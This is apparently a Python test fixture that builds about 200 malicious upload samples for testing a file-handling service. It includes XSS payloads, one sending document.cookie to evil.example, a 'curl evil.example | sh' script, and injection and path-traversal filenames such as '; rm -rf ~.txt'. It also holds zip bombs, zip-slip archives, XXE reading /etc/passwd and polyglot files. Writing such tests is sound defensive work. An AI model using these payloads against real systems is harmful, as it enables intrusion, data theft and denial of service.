"""200 files as somebody might send them who means harm, each with a name to match."""

import io
import struct
import zipfile
import zlib
from collections.abc import Iterator

from tests.core.test_filetypes import JPEG, OLE, PAGE, PDF, PNG, packed

Sent = tuple[str, bytes]

SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
SCRIPT = b"<script>fetch('//evil.example/'+document.cookie)</script>"
MZ, ELF = b"MZ\x90\x00" + b"\x00" * 120, b"\x7fELF\x02\x01\x01" + b"\x00" * 120
GIF = b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xf9\x04\x01"
PAGES = (
    PAGE,
    b"\xef\xbb\xbf" + PAGE,
    b" \r\n\t\x0c" + PAGE,
    PAGE.decode().encode("utf-16"),
    b"<!-- \xe4\xbd\xa0 -->" + SCRIPT,
    SCRIPT,
    SVG,
    b'<?xml version="1.0"?>' + SVG,
    b"<?xml version='1.0'?><html xmlns='http://www.w3.org/1999/xhtml'><script>1</script></html>",
    b"<iframe src=javascript:alert(1)>",
    b"<IMG SRC=x ONERROR=alert(1)>",
    b"MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n" + PAGE,
)
ENDINGS = ("jpg", "png", "gif", "webp", "bmp", "pdf", "docx", "xls", "txt", "html", "svg", "xml", "")
NAMES = (
    "../../../../etc/cron.d/x.txt",
    "..\\..\\..\\windows\\system32\\x.txt",
    "/etc/passwd",
    "C:\\boot.ini",
    "....//....//x.txt",
    "%2e%2e%2fx.txt",
    "..%c0%af..%c0%afx.txt",
    "x.txt/.",
    "x.txt\\",
    ".",
    "..",
    "...",
    ".htaccess",
    "~root.txt",
    "-rf.txt",
    "| cat.txt",
    "; rm -rf ~.txt",
    "$(reboot).txt",
    "`id`.txt",
    "'; DROP TABLE evidence; --.txt",
    "{{ 7*7 }}.txt",
    "{% include 'x' %}.txt",
    "<script>alert(1)</script>.txt",
    '"><img src=x onerror=alert(1)>.txt',
    "=1+1.txt",
    "con.txt",
    "nul",
    "aux.txt.",
    "a" * 300 + ".txt",
    "长" * 300 + ".txt",
    "x." + "y" * 300,
    "报告\u202etxt.exe.txt",
    "\u200b\u200d.txt",
    "x\u2028y\u2029z.txt",
    "e\u0301" * 60 + ".txt",
    "\ufeffx.txt",
    "x.txt;filename=y.html",
    "x.txt\tY: z",
    "x\x7fy\x1b[31m.txt",
    "\U0001f4a3.txt",
)
PROGRAM_ENDINGS = (
    *("exe", "dll", "com", "scr", "bat", "cmd", "msi", "ps1", "vbs"),
    *("js", "wsf", "hta", "lnk", "url", "reg", "jar", "apk", "sh"),
)


def hostile_files() -> list[Sent]:
    """At least 200."""
    return [*_pages_under_other_names(), *_programs(), *_polyglots(), *_bombs(), *_oddities(), *_names()]


def _pages_under_other_names() -> Iterator[Sent]:
    for number, page in enumerate(PAGES):
        for ending in ENDINGS[number % 3 :: 2]:
            yield f"照片{number}.{ending}" if ending else f"照片{number}", page


def _programs() -> Iterator[Sent]:
    for ending in PROGRAM_ENDINGS:
        yield f"附件.{ending}", b"text"
        yield f"附件.pdf.{ending.upper()}", PDF
    for ending in ("pdf", "jpg", "docx", "txt", ""):
        yield f"安装.{ending}", MZ
        yield f"安装.{ending}", ELF
        yield f"脚本.{ending}", b"#!/bin/sh\ncurl evil.example | sh\n"


def _polyglots() -> Iterator[Sent]:
    yield "图.gif", GIF + SCRIPT
    yield "图.gif", b"GIF89a=1;/*" + PAGE + b"*/alert(1)//"
    yield "图.jpg", JPEG + PAGE
    yield "图.jpg", JPEG[:20] + b"<!--" + PAGE + b"-->"
    yield "图.png", PNG + SVG
    yield "图.png", PNG + packed("index.html")
    yield "图.bmp", b"BM/*" + b"\x00" * 20 + b"*/=1;" + SCRIPT
    yield "文.pdf", PDF + PAGE
    yield "文.pdf", PDF + b"\n2 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj"
    yield "文.pdf", PAGE + PDF
    yield "文.pdf", b"\x00" * 20 + PDF
    yield "文.docx", packed("[Content_Types].xml", "word/document.xml") + PAGE
    yield "文.docx", PAGE + packed("[Content_Types].xml")
    yield "文.zip", MZ + packed("a.txt")
    yield "图.jpg", packed("a.jpg")
    yield "图.webp", b"RIFF\x40\x00\x00\x00WEBPVP8 " + SCRIPT


def _bombs() -> Iterator[Sent]:
    yield "炸弹.zip", _zip([(f"{n}.txt", b"\x00" * 2_000_000) for n in range(20)])
    inner = _zip([("0.txt", b"\x00" * 2_000_000)])
    yield "套娃.zip", _zip([(f"{n}.zip", inner) for n in range(50)])
    yield "炸弹.docx", _zip([("[Content_Types].xml", b" " * 20_000_000), ("word/document.xml", b"<x/>")])
    yield "越界.zip", _zip([("../../evil.sh", b"x"), ("/etc/x", b"x")])
    yield "炸弹.xml", b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><x>&b;</x>'
    yield "外部.svg", b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><svg>&a;</svg>'
    yield "巨图.png", _huge_picture()
    yield "巨页.pdf", b"%PDF-1.4\n1 0 obj<</Type/Page/MediaBox[0 0 9999999 9999999]>>endobj"


def _oddities() -> Iterator[Sent]:
    for ending in ("txt", "pdf", "jpg", "docx", "zip", ""):
        yield f"空.{ending}", b""
        yield f"零.{ending}", b"\x00"
        yield f"乱.{ending}", bytes(range(256)) * 3
    yield "大.pdf", PDF + b"x" * ((1 << 20) + 1)
    yield "大.jpg", JPEG + b"x" * (3 << 20)
    yield "半.jpg", JPEG[:3]
    yield "宏.doc", OLE + b"Auto_Open\x00Shell"
    yield "换行.txt", b"a\r\nSet-Cookie: x=y\r\n\r\n" + b"b"


def _names() -> Iterator[Sent]:
    for name in NAMES:
        yield name, b"harmless"


def _zip(members: list[tuple[str, bytes]]) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members:
            archive.writestr(name, content)
    return stream.getvalue()


def a_picture(width: int, height: int) -> bytes:
    """A grey one that any browser shows."""
    return _png(width, height, 8, b"".join(b"\0" + b"\x90" * width for _line in range(height)))


def _huge_picture() -> bytes:
    return _png(60_000, 60_000, 1, b"\x00" * 100_000)


def _png(width: int, height: int, bits: int, dots: bytes) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = struct.pack(">IIBBBBB", width, height, bits, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(dots)) + chunk(b"IEND", b"")
